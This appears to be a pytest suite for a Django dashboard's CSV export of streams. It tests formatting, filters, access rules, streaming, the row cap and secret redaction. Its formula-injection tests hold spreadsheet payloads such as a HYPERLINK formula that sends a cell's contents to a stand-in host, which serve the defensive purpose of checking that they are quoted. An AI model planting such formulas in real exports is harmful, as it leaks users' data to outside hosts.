"""The streams list as CSV (/streams.csv; dashboard/exports.py, dashboard/views/exports.py): the
cells without a server, then the download: the list's filters and access, streamed under WSGI
and ASGI, the row cap and its marker, and secrets redacted by the egress gate on the way out."""

import csv
import datetime as dt
import io
import warnings
import zoneinfo

import httpx
import pytest
from asgiref.sync import sync_to_async
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.http import StreamingHttpResponse
from django.test import AsyncClient, Client

from dashboard import exports
from streams.models import Stream
from streams.store import rows
from tests.conftest import log_in_people

URL = "/streams.csv"
KEY = "sk-CSV-CANARY-4471902xyzQ"


def row(**values):
    """A row as `exports.rows` reads it: everything unknown or empty unless given."""
    out = {name: None for name in exports.FIELDS}
    out.update(
        id=1,
        created_at=dt.datetime(2026, 3, 1, 12, 0, tzinfo=dt.UTC),
        status="completed",
        source="live",
        requested_model="auto",
        resolved_model="m-1",
        session="",
        tags=[],
        event_count=3,
        output_deltas=1,
        usage_source="",
        cost_currency="",
        price_ref="",
        error_code="",
        prompt_cut="hello",
    )
    out.update(values)
    return out


def cell(values, column):
    return values[exports.COLUMNS.index(column)]


class TestCells:
    def test_one_cell_per_column_in_order(self):
        values = exports.cells(row(tags=["a", "b"], ttft_ms=12.5, input_tokens=7))
        assert len(values) == len(exports.COLUMNS)
        assert exports.COLUMNS[:3] == ("id", "created_at", "status")
        assert cell(values, "tags") == "a,b"
        assert (cell(values, "ttft_ms"), cell(values, "input_tokens")) == ("12.5", "7")
        assert cell(values, "prompt") == "hello"

    def test_times_are_utc_iso(self):
        amsterdam = zoneinfo.ZoneInfo("Europe/Amsterdam")
        at = dt.datetime(2026, 7, 1, 14, 30, 5, tzinfo=amsterdam)
        assert cell(exports.cells(row(created_at=at)), "created_at") == "2026-07-01T12:30:05+00:00"

    def test_no_cost_is_an_empty_cell_never_zero(self):
        values = exports.cells(row(cost_nanos=None, usage_source="estimated", input_tokens=3))
        assert cell(values, "cost") == "" and cell(values, "cost_currency") == ""
        assert cell(values, "usage_source") == "estimated"
        assert cell(values, "reasoning_tokens") == ""  # unknown, not 0

    def test_a_cost_is_a_plain_decimal_string(self):
        values = exports.cells(
            row(cost_nanos=123, cost_currency="EUR", usage_source="reported", price_ref="p 1")
        )
        assert cell(values, "cost") == "0.000000123"  # (never 1.23E-7)
        assert cell(exports.cells(row(cost_nanos=1_500_000_000)), "cost") == "1.500000000"
        assert cell(exports.cells(row(cost_nanos=0)), "cost") == "0.000000000"
        assert (cell(values, "cost_currency"), cell(values, "usage_source")) == ("EUR", "reported")

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
    def test_a_formula_gets_a_leading_quote_in_every_text_column(self, start):
        evil = f'{start}HYPERLINK("http://x.test","y")'
        values = exports.cells(
            row(prompt_cut=evil, resolved_model=evil, session=evil, tags=[evil], error_code=evil)
        )
        for column in ("prompt", "resolved_model", "session", "tags", "error_code"):
            assert cell(values, column) == "'" + evil, column

    def test_other_text_and_our_numbers_are_left_alone(self):
        values = exports.cells(row(prompt_cut="a = b", ttft_ms=-0.5, resolved_model="x-1"))
        assert cell(values, "prompt") == "a = b"
        assert cell(values, "resolved_model") == "x-1"
        assert cell(values, "ttft_ms") == "-0.5"  # a number we wrote, not a formula


def parse(text):
    return list(csv.reader(io.StringIO(text)))


def make(user, n=1, **fields):
    # (searchable, as the rows' home makes them: streams/store/rows.py)
    return [Stream.objects.create(**rows.with_search({"user": user, **fields})) for _ in range(n)]


class TestDownload:
    @pytest.fixture(autouse=True)
    def _people(self, db):
        log_in_people(self)

    def get(self, client, query=""):
        response = client.get(URL + (f"?{query}" if query else ""))
        assert response.status_code == 200, response.content
        assert isinstance(response, StreamingHttpResponse)
        text = b"".join(response.streaming_content).decode()
        return response, parse(text)

    def test_the_header_and_a_row_as_stored(self):
        [stream] = make(
            self.owner, status="completed", requested_model="auto", resolved_model="m-1",
            prompt="p" * 300, input_tokens=10, output_tokens=4, total_tokens=14,
            usage_source="reported", cost_nanos=2_000_000, cost_currency="EUR",
            price_ref="team price 3", tags=["x", "y"], session="s1",
        )  # fmt: skip
        response, lines = self.get(self.owner_client)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="streams-')
        assert "X-Streamscope-Truncated" not in response
        assert lines[0] == list(exports.COLUMNS)
        [values] = lines[1:]
        got = dict(zip(exports.COLUMNS, values, strict=True))
        assert got["id"] == str(stream.pk) and got["created_at"].endswith("+00:00")
        assert got["cost"] == "0.002000000" and got["cost_currency"] == "EUR"
        assert got["usage_source"] == "reported" and got["price_ref"] == "team price 3"
        assert (got["input_tokens"], got["reasoning_tokens"]) == ("10", "")
        assert got["prompt"] == "p" * exports.PROMPT_MAX
        assert (got["tags"], got["session"]) == ("x,y", "s1")

    def test_a_user_gets_only_their_own_streams_and_staff_everyones(self):
        mine = make(self.owner, 2, status="completed")
        theirs = make(self.stranger, 1, status="completed")
        _, lines = self.get(self.owner_client)
        assert [int(r[0]) for r in lines[1:]] == [s.pk for s in mine][::-1]  # newest first
        _, lines = self.get(self.staff_client)
        assert {int(r[0]) for r in lines[1:]} == {s.pk for s in mine + theirs}
        # someone else's name as a filter narrows a user's own streams: nothing
        _, lines = self.get(self.owner_client, "user=stranger")
        assert lines[1:] == []
        _, lines = self.get(self.staff_client, "user=stranger")
        assert [int(r[0]) for r in lines[1:]] == [theirs[0].pk]

    def test_the_lists_filters_apply(self):
        done = make(self.owner, 1, status="completed", resolved_model="m-a", prompt="utrecht")
        make(self.owner, 1, status="failed", resolved_model="m-a", error_code="http_500")
        make(self.owner, 1, status="completed", resolved_model="m-b", source="proxy")
        _, lines = self.get(self.owner_client, "status=completed&resolved=m-a")
        assert [int(r[0]) for r in lines[1:]] == [done[0].pk]
        _, lines = self.get(self.owner_client, "q=utrecht")
        assert [int(r[0]) for r in lines[1:]] == [done[0].pk]
        _, lines = self.get(self.owner_client, "source=proxy")
        assert [r[exports.COLUMNS.index("resolved_model")] for r in lines[1:]] == ["m-b"]
        # the list's cursors do not page the file
        _, lines = self.get(self.owner_client, f"before={done[0].pk}")
        assert len(lines) == 4

    def test_it_holds_what_the_list_page_shows_for_the_same_query(self):
        make(self.owner, 3, status="completed", resolved_model="m-a")
        make(self.owner, 2, status="failed", resolved_model="m-a")
        query = "status=failed&findings=none"
        page = self.owner_client.get(f"/?{query}").context["page"]
        _, lines = self.get(self.owner_client, query)
        assert [int(r[0]) for r in lines[1:]] == [s.pk for s in page.streams]

    def test_the_cap_cuts_the_file_and_says_so(self, settings):
        settings.STREAMSCOPE = {**settings.STREAMSCOPE, "CSV_MAX_ROWS": 3}
        streams = make(self.owner, 5, status="completed")
        response, lines = self.get(self.owner_client)
        assert response["X-Streamscope-Truncated"] == "3"
        assert [int(r[0]) for r in lines[1:-1]] == [s.pk for s in streams[::-1][:3]]
        assert lines[-1] == ["# truncated at 3 rows"]
        # exactly the cap: nothing cut, nothing said
        settings.STREAMSCOPE = {**settings.STREAMSCOPE, "CSV_MAX_ROWS": 5}
        response, lines = self.get(self.owner_client)
        assert "X-Streamscope-Truncated" not in response and len(lines) == 6
        assert not lines[-1][0].startswith("#")

    def test_rows_are_read_in_chunks_and_written_in_pieces(self, monkeypatch):
        monkeypatch.setattr(exports, "ROWS_PER_PIECE", 2)
        make(self.owner, 5, status="completed")
        pieces = list(exports.iter_csv(Stream.objects.filter(user=self.owner), limit=100))
        assert len(pieces) == 3 and all(pieces)  # the header and 2 rows, 2 rows, the last
        assert len(parse("".join(pieces))) == 6

    def test_an_injected_prompt_leaves_as_text(self):
        make(self.owner, 1, prompt='=HYPERLINK("http://x.test/?"&A1,"click")', session="@s")
        _, lines = self.get(self.owner_client)
        got = dict(zip(exports.COLUMNS, lines[1], strict=True))
        assert got["prompt"] == '\'=HYPERLINK("http://x.test/?"&A1,"click")'
        assert got["session"] == "'@s"

    def test_a_bad_filter_is_400_and_login_is_needed(self):
        response = self.owner_client.get(URL + "?status=nonsense")
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/plain")
        response = Client().get(URL)
        assert response.status_code == 302 and response["Location"].startswith("/login/")
        assert self.owner_client.post(URL).status_code == 405

    def test_the_list_page_links_to_it_with_its_query(self):
        response = self.owner_client.get("/?status=failed")
        assert 'href="/streams.csv?status=failed"' in response.content.decode()


@pytest.mark.django_db(transaction=True)
async def test_streamed_under_asgi_and_redacted_by_the_egress_gate(settings):
    """Under ASGI an async iterator (a sync one would be read whole first, with a warning); and
    through the whole ASGI application (dashboard/asgi.py, the gate itself) a key in a prompt
    and in a model id leaves redacted."""
    from dashboard.asgi import application
    from streams.store import known_secrets

    settings.UPSTREAM_API_KEY = KEY

    def setup():
        user = get_user_model().objects.create_user("csv-asgi")
        Stream.objects.create(user=user, prompt=f"my key is {KEY}", resolved_model=f"m-{KEY}")
        client = Client()
        client.force_login(user)
        return user, client.cookies[django_settings.SESSION_COOKIE_NAME].value

    user, cookie = await sync_to_async(setup)()
    known_secrets._known.checked = float("-inf")  # (read the settings' key now)
    with warnings.catch_warnings():
        warnings.filterwarnings("error", message="StreamingHttpResponse must consume")
        client = AsyncClient()
        await client.aforce_login(user)
        r = await client.get(URL)
        assert r.status_code == 200
        assert [piece async for piece in r]  # (tests/conftest.py gives it the gate's rules)

        transport = httpx.ASGITransport(app=application)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as c:
            c.cookies.set(django_settings.SESSION_COOKIE_NAME, cookie)
            r = await c.get(URL)
    assert r.status_code == 200, r.text
    assert KEY not in r.text and KEY[:12] not in r.text and KEY[-10:] not in r.text
    [values] = parse(r.text)[1:]
    got = dict(zip(exports.COLUMNS, values, strict=True))
    assert got["prompt"] == "my key is [redacted]"
    assert got["resolved_model"] == "m-[redacted]"
    known_secrets._known.checked = float("-inf")  # (the next test reads its own settings)
